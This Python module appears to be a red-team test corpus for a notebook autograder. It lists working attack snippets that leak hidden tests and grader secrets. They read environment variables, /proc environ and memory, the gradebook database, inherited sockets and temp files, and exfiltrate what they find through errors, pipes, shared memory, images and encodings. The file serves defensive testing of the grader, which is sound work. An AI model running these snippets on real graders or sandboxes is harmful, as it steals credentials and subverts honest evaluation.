"""Class b: hidden tests, their arguments and the grader's secrets in what a student gets to see."""

from tests.redteam.corpus.base import ANSWER_ALL, Attack, Make, answering, hostile


def _attack(number: str, title: str, make: Make, *, beyond_lazy: bool = True) -> Attack:
    return Attack(number, title, "b", make, "no_canary", beyond_lazy)


_HOOK = """
from IPython import get_ipython
get_ipython().events.register("pre_run_cell", lambda info: print("cell:", info.raw_cell))
"""

_HISTORY = """
from IPython import get_ipython
shell = get_ipython()
print(list(globals().get("In", [])))
print([entry for entry in shell.history_manager.get_range(output=False)])
print(shell.history_manager.input_hist_raw)
"""

_OWN_NOTEBOOK = """
import glob
for name in glob.glob("*.ipynb") + glob.glob("../*.ipynb") + glob.glob(COURSE + "/autograded/*/*/*.ipynb"):
    try:
        print(open(name).read())
    except OSError:
        pass
"""

_GRADEBOOK = """
import sqlite3
place = COURSE + "/gradebook.db"
if os.path.exists(place):
    database = sqlite3.connect("file:" + place + "?mode=ro", uri=True)
    for row in database.execute("select source from source_cell"):
        print(row[0])
"""

_ENVIRONMENT = """
print(dict(os.environ))
for pid in [os.getpid(), *parents()]:
    for name in ("environ", "cmdline", "maps"):
        try:
            text = open(f"/proc/{pid}/{name}", "rb").read(200_000).replace(b"\\0", b" ").decode(errors="replace")
        except OSError:
            continue
        print("\\n".join(line for line in text.split() if "cn" in line or "TOKEN" in line)[:20_000])
"""

_RECORD = "seen.append(args)\nraise ValueError"
_FILE = "open(here + '/seen.txt', 'a').write(repr(args))\nraise ValueError"

_ERRORS = """
word = " ".join(str(one) for one in args)[:200]
error = type("".join(c for c in word if c.isalnum()) or "Odd", (ValueError,), {})(word, *args)
error.add_note("note: " + word)
raise error from KeyError(word)
"""

_STREAMS = """
import logging, warnings
text = repr(args)
warnings.warn(text)
logging.getLogger().warning(text)
for stream in (sys.stdout, sys.stderr, sys.__stdout__, sys.__stderr__):
    print(text, file=stream, flush=True)
for descriptor in (1, 2):
    os.write(descriptor, text.encode() + b"\\n")
raise ValueError(text)
"""

_MAP_SETUP = "import mmap\nshared = mmap.mmap(-1, 1 << 16)\n"
_MAP = """
text = repr(args).encode()[:2000]
place = shared.find(b"\\0")
shared[place:place + len(text)] = text
raise ValueError
"""

_WAIT = """
end = time.monotonic() + 3
while time.monotonic() < end and not os.path.exists("seen.txt"):
    time.sleep(0.05)
print(open("seen.txt").read() if os.path.exists("seen.txt") else "nothing")
"""

_PIPE_SETUP = """
import signal
reading, writing = os.pipe()
answer_reading, answer_writing = os.pipe()
if os.fork() == 0:
    rename_process()
    signal.alarm(15)
    while True:
        os.write(answer_writing, os.read(reading, 4000))
os.set_blocking(answer_reading, False)
"""
_PIPE_LAST = """
time.sleep(0.5)
try:
    print(os.read(answer_reading, 60_000))
except BlockingIOError:
    print("nothing")
"""

_UPDATE_SETUP = """
from IPython.display import display, update_display
display("nothing yet", display_id="spy")
"""
_UPDATE = "update_display(repr(args), display_id='spy')\nraise ValueError"

_THREAD_SETUP = """
import threading
from IPython import get_ipython
seen, told = [], set()
def tell():
    end = time.monotonic() + 20
    while time.monotonic() < end:
        for source in list(globals().get("In", [])) + [repr(one) for one in seen]:
            if "BEGIN HIDDEN" in source or "cn" in source and source not in told:
                told.add(source)
                print(source, flush=True)
        time.sleep(0.05)
threading.Thread(target=tell, daemon=True).start()
import atexit
atexit.register(lambda: print(globals().get("In")))
"""

_PICTURE_SETUP = """
import io
import numpy as np
seen = []
def show():
    from IPython.display import Image, display
    from PIL import Image as Picture
    from PIL.PngImagePlugin import PngInfo
    text = (" ".join(globals().get("In", [])) + repr(seen)).encode()[-60_000:]
    hidden = b"".join(text[m.start():m.start() + 60] for m in __import__("re").finditer(rb"cn[a-z]", text))[:9_000]
    pixels = np.frombuffer(hidden + b"\\0" * (-len(hidden) % 100 or 100), dtype=np.uint8).reshape(-1, 100)
    target, facts = io.BytesIO(), PngInfo()
    facts.add_text("comment", hidden[:1000].decode("latin-1"))
    Picture.fromarray(pixels).save(target, "PNG", pnginfo=facts)
    display(Image(data=target.getvalue()))
"""

_CIPHER = """
import base64, codecs
text = repr(seen) + " ".join(globals().get("In", []))
words = " ".join(sorted(set(__import__("re").findall(r"cn[a-z0-9]{8,60}", text))))
print(words[::-1])
print(base64.b64encode(words.encode()).decode())
print(words.encode().hex())
print(codecs.encode(words, "rot13"))
print("\\u200b".join(words))
"""

_COLLECTOR = """
import gc
found = set()
def look(value, depth=0):
    if isinstance(value, str) and "cn" in value:
        found.add(value[:3000])
    elif isinstance(value, (tuple, list, set, frozenset)) and depth < 3:
        for one in list(value)[:2000]:
            look(one, depth + 1)
for one in gc.get_objects():
    if isinstance(one, dict):
        look(list(one.values())[:2000])
    elif isinstance(one, type(look)):
        look(one.__code__.co_consts)
    else:
        look(one)
print("\\n".join(found)[:60_000])
"""

_MEMORY = """
import re
left = 400 << 20
for pid in parents():
    try:
        maps, memory = open(f"/proc/{pid}/maps").read().splitlines(), open(f"/proc/{pid}/mem", "rb", 0)
    except OSError as error:
        print(type(error).__name__)
        break
    for line in maps:
        start, end = (int(word, 16) for word in line.split()[0].split("-"))
        if "rw" not in line or end - start > 64 << 20 or left <= 0:
            continue
        try:
            memory.seek(start)
            data = memory.read(end - start)
        except (OSError, ValueError, OverflowError):
            continue
        left -= len(data)
        for match in set(re.findall(rb"cn[a-z]{4,40}[0-9a-f]{12}", data)):
            print(match.decode())
"""

_DESCRIPTORS = """
import socket, stat
for number in range(3, 200):
    try:
        kind = os.fstat(number).st_mode
        if stat.S_ISSOCK(kind):
            peer = socket.socket(fileno=os.dup(number))
            print(peer.recv(60_000, socket.MSG_PEEK | socket.MSG_DONTWAIT))
        elif stat.S_ISREG(kind):
            print(os.pread(number, 60_000, 0))
    except OSError:
        continue
"""

_PLACES = """
import linecache, tempfile
for name, entry in list(linecache.cache.items()):
    if "ipykernel" in name or "ipython" in name:
        print("".join(entry[2]) if len(entry) > 2 else entry)
import glob
for folder in {tempfile.gettempdir(), TMP, os.getcwd(), *glob.glob("/tmp/judge-*")}:
    for where, folders, names in os.walk(folder):
        folders[:] = folders[:50] if where.count(os.sep) < folder.count(os.sep) + 3 else []
        for name in names[:50]:
            if name.endswith((".py", ".ipynb", ".json", ".out")):
                try:
                    text = open(os.path.join(where, name), errors="replace").read(300_000)
                except OSError:
                    continue
                print("\\n".join(set(__import__("re").findall(r"cn[a-z]{4,40}[0-9a-f]{12}", text))))
"""

_REPR = """
class Spy:
    def look(self, *ignored):
        frame, seen = sys._getframe(1), []
        while frame is not None:
            seen.append(str((frame.f_globals.get("In") or [""])[-1]) + repr(frame.f_code.co_consts))
            frame = frame.f_back
        text = "\\n".join(seen)
        print(text)
        return text
    __repr__ = __str__ = _repr_html_ = _repr_markdown_ = _repr_latex_ = look
    __format__ = look
    def _repr_mimebundle_(self, **k): return {"text/plain": self.look(), "text/html": self.look()}
    def __eq__(self, other): self.look(); raise ValueError(repr(other))
    def __getitem__(self, key): raise KeyError(repr(key))
    def __len__(self): raise TypeError(self.look())
anything = lambda *a, **k: Spy()
"""

_AUDIT = """
spied = []
def listen(event, args):
    if event in ("exec", "compile") and args:
        code = args[0]
        spied.append(repr(getattr(code, "co_consts", code))[:5000])
sys.addaudithook(listen)
"""

_HOOKS = """
import pandas as pd
from IPython import get_ipython
shell = get_ipython()
pd.DataFrame._repr_html_ = lambda self: self.to_csv() + repr(globals().get("In"))
inner = pd.DataFrame.__init__
def made(self, *args, **kwargs):
    print("frame:", args, kwargs)
    inner(self, *args, **kwargs)
pd.DataFrame.__init__ = made
import matplotlib
matplotlib.use("agg")
import matplotlib.pyplot as plt
def late(*ignored):
    plt.figure()
    plt.title(repr(globals().get("In", [""])[-1])[:2000])
    print(repr(globals().get("In", [""])[-1]))
shell.events.register("post_execute", late)
"""

_FRAMES = """
frame = sys._getframe(1)
while frame is not None:
    print({name: repr(value)[:300] for name, value in frame.f_locals.items() if not name.startswith("_")})
    frame = frame.f_back
raise ValueError
"""

ATTACKS = (
    _attack("b01", "a hook prints the text of every later cell", hostile(_HOOK)),
    _attack("b02", "the last cell prints In and the history", hostile(last=_HISTORY)),
    _attack("b03", "the notebook under grading is read from its folder", hostile(_OWN_NOTEBOOK, last=_OWN_NOTEBOOK)),
    _attack("b06", "the tests are read from the gradebook", hostile(_GRADEBOOK)),
    _attack("b07", "environment and command lines of the grader", hostile(_ENVIRONMENT)),
    _attack("b08", "an answer prints its arguments", answering("print(args)\nraise ValueError")),
    _attack("b10", "just fail: the traceback shows the test", hostile(), beyond_lazy=False),
    _attack(
        "b13",
        "arguments are kept and printed by a later cell",
        answering(_RECORD, setup="seen = []", last="print(seen)"),
    ),
    _attack("b40", "arguments as class, text, note and cause of an error", answering(_ERRORS)),
    _attack("b41", "arguments through warnings, logs and raw descriptors", answering(_STREAMS)),
    _attack("b42", "arguments through a file in the folder", answering(_FILE, setup="here = os.getcwd()", last=_WAIT)),
    _attack(
        "b43",
        "arguments through anonymous shared memory",
        answering(_MAP, setup=_MAP_SETUP, last="print(shared[:60_000].rstrip(b'\\0'))"),
    ),
    _attack(
        "b44",
        "arguments through a child process and pipes",
        answering(
            "os.write(writing, repr(args).encode()[:3000])\nraise ValueError", setup=_PIPE_SETUP, last=_PIPE_LAST
        ),
    ),
    _attack("b45", "an earlier output is updated with the arguments", answering(_UPDATE, setup=_UPDATE_SETUP)),
    _attack(
        "b46",
        "a thread and an exit handler tell later",
        answering(_RECORD, setup=_THREAD_SETUP, last="time.sleep(0.5)"),
    ),
    _attack(
        "b47",
        "hidden text in the pixels and comments of a picture",
        answering(_RECORD, setup=_PICTURE_SETUP, last="show()"),
    ),
    _attack(
        "b48",
        "hidden text reversed, in base64, hex, rot13 and with gaps",
        answering(_RECORD, setup="seen = []", last=_CIPHER),
    ),
    _attack("b49", "all objects are searched for texts and constants", answering("raise ValueError", last=_COLLECTOR)),
    _attack("b50", "the memory of the processes above is searched", hostile(_MEMORY, last=_MEMORY)),
    _attack("b51", "inherited descriptors and sockets are read", hostile(_DESCRIPTORS, last=_DESCRIPTORS)),
    _attack("b52", "line caches and temporary files are searched", hostile(_PLACES, last=_PLACES)),
    _attack("b53", "objects whose repr looks at the frames that show them", hostile(_REPR + ANSWER_ALL)),
    _attack(
        "b54",
        "an audit hook collects what is compiled",
        answering("raise ValueError", setup=_AUDIT, last="print(spied)"),
    ),
    _attack("b55", "display hooks of pandas and matplotlib", answering("return args", setup=_HOOKS)),
    _attack("b56", "an answer prints the variables of all frames above", answering(_FRAMES)),
)
